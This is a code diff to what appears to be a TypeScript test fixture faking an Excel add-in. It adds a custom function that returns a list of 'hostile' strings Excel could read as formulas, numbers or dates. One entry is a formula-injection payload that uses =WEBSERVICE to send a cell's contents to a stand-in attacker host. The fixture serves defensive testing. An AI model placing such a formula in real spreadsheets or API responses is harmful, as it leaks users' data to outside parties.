@@ -16,9 +16,13 @@ export interface FakeExcel {
 const META = {
   functions: [
     { id: "PEERS", parameters: [{ name: "ticker" }] },
+    { id: "TEXTS", parameters: [] },
     { id: "FINANCIALS", parameters: [{ name: "ticker" }, { name: "metrics" }, { name: "period", optional: true }, { name: "options", optional: true }] },
   ],
 };
+
+/** What an API could answer: text that Excel would read as formulas, numbers or dates if typed. */
+export const HOSTILE = ['=WEBSERVICE("https://evil.example/?"&A1)', "+1", "-x", "@SUM(A1)", "2024-01-05", "'quoted", "TRUE", "#N/A"];
 
 const PEERS: Record<string, string[]> = { AAPL: ["MSFT", "GOOGL", "NVDA"], KO: ["PEP", "KDP"] };
 
@@ -28,6 +32,7 @@ type Win = Window & { Excel: { run: unknown; RequestContext: { prototype: { sync
 export function fakeExcel(): FakeExcel {
   const fx = installFakeOffice(window as never, { metadata: async () => META }) as unknown as FakeExcel["fx"];
   fx.host.fns.associate("PEERS", async (t: unknown) => [["ticker"], ...(PEERS[String(t)] ?? []).map((p) => [p])]);
+  fx.host.fns.associate("TEXTS", async () => [["text"], ...HOSTILE.map((t) => [t])]);
   fx.host.fns.associate("FINANCIALS", async (t: unknown, m: unknown) => [["metric", "FY2024"], [String(m), String(t).length]]);
   const counts = { runs: 0, syncs: 0 };
   const w = window as unknown as Win;
